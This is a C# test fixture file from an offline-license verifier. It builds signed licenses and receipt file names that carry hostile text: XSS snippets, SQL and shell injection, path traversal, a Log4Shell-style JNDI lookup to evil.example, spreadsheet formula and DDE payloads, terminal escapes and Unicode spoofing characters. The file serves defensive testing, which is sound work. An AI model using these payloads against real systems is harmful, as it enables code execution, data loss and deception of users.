using OfflineLicense.Verifier;
using OfflineLicense.Verifier.Formats;
using static OfflineLicense.Tests.Attacks.Hostile.HostileCast;

namespace OfflineLicense.Tests.Attacks.Hostile;

/// <summary>Texts that people choose, which programs further on could take for something else than a text.</summary>
internal static class HostileTexts
{
    private static readonly string[] s_shown = ["offline-license install FILE", "offline-license inspect FILE"];

    internal static HostileChapter Chapter { get; } = new("texts",
        "Good licenses with texts that are meant for a terminal, a spreadsheet, a browser, a database, a shell or a reader's eye. All are shown as what they are.", s_shown)
    {
        { "turned-around.lic", "a name that is read from right to left", Licensee("Acme \u202Eenicidemelet") },
        { "isolated.lic", "a name that hides its end in an isolate", Licensee("Acme\u2066, quota 8\u2069") },
        { "zero-width.lic", "a name with letters of no width, which looks like Acme's", Licensee("Acme\u200B Telemedicine") },
        { "soft-hyphen.lic", "a name with a hyphen that is not shown", Licensee("Acme\u00AD Telemedicine") },
        { "line-separator.lic", "a name with a separator of lines that is no control character: refused", ForgedNote.Of(NextText.Replace("Acme Telemedicine", "Acme\u2028Telemedicine", StringComparison.Ordinal), Vendor.LicenseKey), "offline-license install FILE" },
        { "look-alike.lic", "a name in letters of another script that look the same", Licensee("\u0410\u0441m\u0435 Telemedicine") },
        { "tags.lic", "a name with invisible tag characters", Licensee("Acme\U000E0041\U000E0042") },
        { "private-use.lic", "a name with a letter of nobody's", Licensee("Acme\uE000") },
        { "spreadsheet.lic", "a name that is a formula", Licensee("=HYPERLINK(\"http://evil.example\";\"Acme\")") },
        { "spreadsheet-command.lic", "a name that is a command for old spreadsheets", Licensee("@SUM(1+1)*cmd|' /C calc'!A0") },
        { "browser.lic", "a name that is a script", Licensee("<script>alert(document.cookie)</script>") },
        { "browser-attribute.lic", "a name that leaves an attribute", Licensee("\" onload=\"alert(1)") },
        { "browser-style.lic", "a name that ends a style sheet", Licensee("</style></title><img src=x onerror=alert(1)>") },
        { "database.lic", "a name that ends a statement", Licensee("Robert'); DROP TABLE licenses;--") },
        { "shell.lic", "a name that is a command for a shell", Licensee("$(reboot) `reboot` ; reboot") },
        { "path.lic", "a name that leads out of every folder", Licensee("../../../../etc/cron.d/acme") },
        { "device.lic", "a name that is a device", Licensee("CON") },
        { "format.lic", "a name that is a format", Licensee("%s%s%n {0} {{x}} ${jndi:ldap://evil.example/a}") },
        { "option.lic", "a name that is an option", Licensee("--help") },
        { "reply-line.lic", "a name that looks like a line of a reply", Licensee("Acme number 999") },
        { "escape-in-a-note.lic", "an escape in a note, by its number as JSON has it", Noted("\u001b]0;owned\u0007\u001b[2J") },
        { "lines-in-a-note.lic", "a note that tells a success", Noted("A-1027\nverified: a key that is trusted here signed it") },
        { "carriage-return-in-a-note.lic", "a note that writes over its own line", Noted("A-1027\rverified") },
        { "backspaces-in-a-note.lic", "a note that takes letters back", Noted("not paid\b\b\b\b\b\b\b\bpaid") },
        { "nul-in-a-note.lic", "a NUL in a note", Noted("A\0B") },
        { "feature-of-a-browser.lic", "a feature's value that is a script", ForgedNote.Of(NextText.Replace("recording: \"true\"", "recording: \"<script>alert(1)</script>\"", StringComparison.Ordinal), Vendor.LicenseKey) },
        { "purpose-of-a-path.lic", "a purpose that is a path: refused", ForgedNote.Of(NextText.Replace("purpose: production", "purpose: ../production", StringComparison.Ordinal), Vendor.LicenseKey), "offline-license install FILE" },
    };

    /// <summary>Names of files that a person may be made to type; where a file system has them.</summary>
    internal static HostileChapter Names { get; } = new("names",
        "Receipts in files whose names steer terminals, break lines or look like something else.", "issuer import FILE")
    {
        { "clears\u001b[2J.receipts", "a name that clears the terminal", Node().Mail(), true },
        { "two\nerror: everything is lost.receipts", "a name of two lines", Node().Mail(), true },
        { "\u202Estpiecer.exe", "a name that is read from right to left", Node().Mail(), true },
        { "=cmd().receipts", "a name that is a formula", Node().Mail(), true },
        { "$(reboot).receipts", "a name that is a command for a shell", Node().Mail(), true },
        { "'; DROP TABLE imports;--.receipts", "a name that ends a statement of the books", Node().Mail(), true },
        { "<img src=x>.receipts", "a name that is an image", "Dear vendor,\n"u8.ToArray(), true },
    };

    private static byte[] Licensee(string name) => Signed(license => license with { Licensee = name });

    private static byte[] Noted(string note) => Signed(license => license with { Notes = new Dictionary<string, string>(StringComparer.Ordinal) { ["order"] = note } });

    private static byte[] Signed(Func<License, License> change) => ForgedNote.Of(LicenseFormat.Print(change(LicenseFormat.Parse(NextText))), Vendor.LicenseKey);
}
